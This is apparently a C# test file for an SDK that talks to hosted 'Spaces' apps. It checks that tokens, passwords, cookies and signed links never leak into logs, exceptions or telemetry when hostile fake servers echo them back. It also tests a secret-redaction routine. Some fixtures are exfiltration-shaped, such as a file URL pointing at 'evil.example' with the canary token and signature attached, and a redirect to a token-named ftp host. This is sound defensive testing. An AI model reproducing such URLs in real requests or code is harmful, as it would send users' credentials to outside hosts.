using System.Collections.Concurrent;
using System.Diagnostics;
using System.Net;
using System.Text;
using Microsoft.Extensions.Logging;
using SpacesSdk.Tests.Support;

namespace SpacesSdk.Tests.Http;

/// <summary>
/// Secrets that are looked for wherever text can leave the SDK, while servers fail in every way and send back all that they were sent.
/// </summary>
public sealed class CanaryTests : IDisposable
{
    private const string Token = "canary-token-5f1e";
    private const string Password = "canary pass/word-7c2d";
    private const string Cookie = "canary-cookie-9a3b";
    private const string Signed = "canary-sign-1d4c";

    private readonly Sinks _sinks = new();

    public static TheoryData<string, Func<object, object?>> Servers => new()
    {
        { "success", static _ => null },
        { "echo 400", Echoes(400) },
        { "echo 401", Echoes(401) },
        { "echo 403", Echoes(403) },
        { "echo 404", Echoes(404) },
        { "echo 422", Echoes(422) },
        { "echo 429", Echoes(429) },
        { "echo 500", Echoes(500) },
        { "echo 503", Echoes(503) },
        { "plain text", At("POST", static said => ServerInMemory.Answer(Encoding.UTF8.GetBytes(said), "text/plain", HttpStatusCode.InternalServerError)) },
        { "page", At("POST", static said => ServerInMemory.Answer(Encoding.UTF8.GetBytes("<html>" + said), "text/html")) },
        { "broken JSON", At("POST", static said => ServerInMemory.Answer(Encoding.UTF8.GetBytes($"{{\"{said}\": oops"), "application/json")) },
        { "wrong JSON", At("POST", static said => ServerInMemory.Json($$$"""{"event_id":{"{{{said}}}":1}}""")) },
        { "redirect", At("GET", static said => ServerInMemory.Redirect("ftp://host/" + Uri.EscapeDataString(said))) },
        { "redirect host", At("GET", static said => ServerInMemory.Redirect($"ftp://{Token}.example/?token={Signed}")) },
        { "exception", At("GET", static said => throw new HttpRequestException("no route for " + said, new IOException(said))) },
        { "broken start", At("POST", static said => throw new HttpRequestException("cut: " + said, new IOException(said))) },
        { "gr.Error", Stream(static said => $$"""{"msg":"process_completed","event_id":"e1","output":{"error":"{{said}}","title":"{{said}}"},"success":false,"title":"{{said}}"}""") },
        { "quota", Stream(static said => $$"""{"msg":"process_completed","event_id":"e1","output":{"error":"GPU quota exceeded {{said}}"},"success":false}""") },
        { "log", Stream(static said => $$"""{"msg":"log","event_id":"e1","log":"{{said}}","level":"info","title":"{{said}}"}""") },
        { "progress", Stream(static said => $$"""{"msg":"progress","event_id":"e1","progress_data":[{"index":1,"length":2,"unit":"{{said}}","desc":"{{said}}"}]}""") },
        { "unexpected", Stream(static said => $$"""{"msg":"unexpected_error","event_id":null,"message":"{{said}}"}""") },
        { "broken event", Stream(static said => "{\"" + said) },
        { "event id", At("POST", static said => ServerInMemory.Json($$"""{"event_id":"{{said}}"}""")) },
        { "config", At("/config", static said => ServerInMemory.Json($$"""{"dependencies":"{{said}}","api_prefix":"//{{said}}"}""")) },
        { "info", At("/gradio_api/info", static said => ServerInMemory.Json("""{"named_endpoints":{"/generate":{"parameters":[{"parameter_name":"SAID"}],"returns":[{}]}}}""".Replace("SAID", said, StringComparison.Ordinal))) },
        { "login", At("/login", static said => ServerInMemory.Json($$"""{"detail":"{{said}}"}""", HttpStatusCode.BadRequest)) },
        { "login 500", At("/login", static said => ServerInMemory.Json($$"""{"detail":"{{said}}"}""", HttpStatusCode.InternalServerError)) },
        { "upload", At("/gradio_api/upload", static said => ServerInMemory.Json($$"""{"detail":"{{said}}"}""", HttpStatusCode.RequestEntityTooLarge)) },
        { "file", At("/gradio_api/file=/srv/a.bin", static said => ServerInMemory.Json($$"""{"detail":"{{said}}"}""", HttpStatusCode.InternalServerError)) },
        { "hub", At("/api/spaces/test/any", static said => ServerInMemory.Json($$$"""{"id":"test/any","runtime":{"stage":"RUNTIME_ERROR","errorMessage":"{{{said}}}"}}""")) },
    };

    public void Dispose() => _sinks.Dispose();

    [Theory]
    [MemberData(nameof(Servers))]
    public async Task No_sink_shows_a_secret_whatever_a_server_does_with_it(string name, Func<object, object?> first)
    {
        Assert.NotEmpty(name);
        await RunAsync(request => (HttpResponseMessage?)first(request));
        string all = _sinks.ToString();
        foreach (string secret in new[] { Token, Password, Uri.EscapeDataString(Password), Cookie, Signed })
            Assert.DoesNotContain(secret, all, StringComparison.Ordinal);
        Assert.NotEmpty(all);
    }

    [Theory]
    [InlineData("https://app.hf.space/?__sign=abc.def-123&x=1", "https://app.hf.space/?***&x=1")]
    [InlineData("GET /f?token=s3cret HTTP", "GET /f?*** HTTP")]
    [InlineData("Cookie: access-token-x1=abc; other=def", "***")]
    [InlineData("Authorization: Bearer abc.def", "Authorization: ***")]
    [InlineData("Authorization: Basic YWxpY2U6cHc=", "Authorization: ***")]
    [InlineData("x-ip-token: eyJhbGciOi", "***")]
    [InlineData("{\"token\": \"wZwKknJR6U2JKlqM6cYjOw\", \"user\": \"alice\"}", "{***, \"user\": \"alice\"}")]
    [InlineData("username=alice&password=pw1", "username=alice&***")]
    [InlineData("hf_abc\u200bDEF12345 in two", "*** in two")]
    [InlineData("unexpected token: '<'", "unexpected token: '<'")]
    public void What_looks_like_a_secret_is_taken_out_of_foreign_text(string text, string clean) => Assert.Equal(clean, SpacesSdk.Http.UntrustedText.Clean(text));

    private async Task RunAsync(Func<Request, HttpResponseMessage?> first)
    {
        var options = new SpaceOptions
        {
            BaseAddress = new("http://127.0.0.1:7860"),
            HubAddress = new("http://127.0.0.1:7861"),
            UseEnvironmentToken = false,
            Token = Token,
            Login = new("alice", Password),
            LoggerFactory = _sinks.Loggers,
            Clock = new PassingClock(),
        };
        _sinks.Add(options.Token, options.Login, options);
        await using var connection = new SpaceConnection(AnySpace.Descriptor, options, new ServerInMemory(request => first(request) ?? Answer(request)));
        _sinks.Add(connection);
        await TryAsync(async () =>
        {
            var job = connection.Submit("/generate", ("x", "1"));
            foreach (var told in await job.AllEventsAsync())
                _sinks.Add(told);
            await job;
        });
        await TryAsync(async () => await connection.UploadAsync(SpaceFile.FromBytes(new byte[3], "a.bin"), cancellationToken: TestContext.Current.CancellationToken));
        await TryAsync(async () => await Files.Files.OnServer(connection, """{"path":"/srv/a.bin"}""").ReadAllBytesAsync(TestContext.Current.CancellationToken));
        await TryAsync(async () => await Files.Files.OnServer(connection, $$"""{"url":"http://evil.example/x?token={{Token}}&__sign={{Signed}}"}""").ReadAllBytesAsync(TestContext.Current.CancellationToken));
        await TryAsync(async () => await SpaceFile.FromUri(new($"http://127.0.0.1:1/x?token={Signed}&__sign={Signed}")).ReadAllBytesAsync(TestContext.Current.CancellationToken));
        await TryAsync(async () => await connection.GetGpuQuotaAsync(TestContext.Current.CancellationToken));
    }

    private async Task TryAsync(Func<Task> call)
    {
        try
        {
            await call();
        }
        catch (SpaceException error)
        {
            _sinks.Add(error);
        }
    }

    private static Func<object, object?> Echoes(int status) => At("POST", said => ServerInMemory.Json($$"""{"detail":[{"loc":["{{said}}"],"msg":"{{said}}"},{"parameter_name":"{{said}}","message":"{{said}}"}]}""", (HttpStatusCode)status));

    private static Func<object, object?> Stream(Func<string, string> message) => At("/gradio_api/queue/data", said => ServerInMemory.Events($"data: {message(said)}\n\n"));

    // At a path, or at every request of a method but the login.
    private static Func<object, object?> At(string where, Func<string, HttpResponseMessage> answer) => given =>
        given is Request request && (request.Uri.AbsolutePath == where || (request.Method == where && request.Path != "/login")) ? answer(Said(request)) : null;

    // All that the server was told, as a debug page would show it.
    private static string Said(Request request) =>
        $"auth {request.Authorization} cookie {request.Headers.GetValueOrDefault("Cookie")} password {Password} form {Uri.EscapeDataString(Password)} raw {Token} {(request.Headers.ContainsKey("Cookie") ? Cookie : "none")} link http://x/?__sign={Signed}&token={Signed}";

    private static HttpResponseMessage Answer(Request request)
    {
        if (request.Path != "/login")
            return request.Path.StartsWith("/api/", StringComparison.Ordinal) || request.Path.Contains("upload", StringComparison.Ordinal) ? ServerInMemory.Json("[\"/srv/a.bin\"]") : HttpErrorTests.Known(request);
        var answer = ServerInMemory.Json("""{"success":true}""");
        answer.Headers.Add("Set-Cookie", $"access-token-x={Cookie}; Path=/");
        return answer;
    }

    /// <summary>Everything that text can come out of: values, exceptions with their causes, logs, activities with their tags.</summary>
    private sealed class Sinks : IDisposable
    {
        private readonly ConcurrentQueue<string> _text = new();
        private readonly ActivityListener _activities;

        public Sinks()
        {
            Loggers = LoggerFactory.Create(logging => logging.SetMinimumLevel(LogLevel.Trace).AddProvider(new Provider(_text)));
            _activities = new ActivityListener
            {
                ShouldListenTo = static source => source.Name.StartsWith("SpacesSdk", StringComparison.Ordinal),
                Sample = static (ref ActivityCreationOptions<ActivityContext> _) => ActivitySamplingResult.AllDataAndRecorded,
                ActivityStopped = activity => _text.Enqueue($"{activity.DisplayName} {activity.StatusDescription} {string.Join(' ', activity.TagObjects)} {string.Join(' ', activity.Events.SelectMany(static e => e.Tags))}"),
            };
            ActivitySource.AddActivityListener(_activities);
        }

        public ILoggerFactory Loggers { get; }

        public void Add(params IEnumerable<object?> values)
        {
            foreach (object? value in values)
                _text.Enqueue(value is SpaceEvent.Failed failed ? failed.ToString() + Text(failed.Error) : value is Exception error ? Text(error) : value?.ToString() ?? "");
        }

        public override string ToString() => string.Join('\n', _text);

        public void Dispose()
        {
            Loggers.Dispose();
            _activities.Dispose();
        }

        private static string Text(Exception error)
        {
            var text = new StringBuilder(error.ToString());
            for (var cause = error; cause is not null; cause = cause.InnerException)
            {
                foreach (var property in cause.GetType().GetProperties().Where(static p => p.GetIndexParameters().Length == 0))
                    text.Append(' ').Append(property.Name).Append('=').Append(property.GetValue(cause));
                foreach (object? datum in cause.Data.Values)
                    text.Append(' ').Append(datum);
            }
            return text.ToString();
        }

        private sealed class Provider(ConcurrentQueue<string> text) : ILoggerProvider, ILogger
        {
            public ILogger CreateLogger(string categoryName) => this;

            public IDisposable? BeginScope<TState>(TState state)
                where TState : notnull => null;

            public bool IsEnabled(LogLevel logLevel) => true;

            public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter)
            {
                text.Enqueue(formatter(state, exception) + exception);
                if (state is IEnumerable<KeyValuePair<string, object?>> values)
                    text.Enqueue(string.Join(' ', values));
            }

            public void Dispose()
            {
            }
        }
    }
}
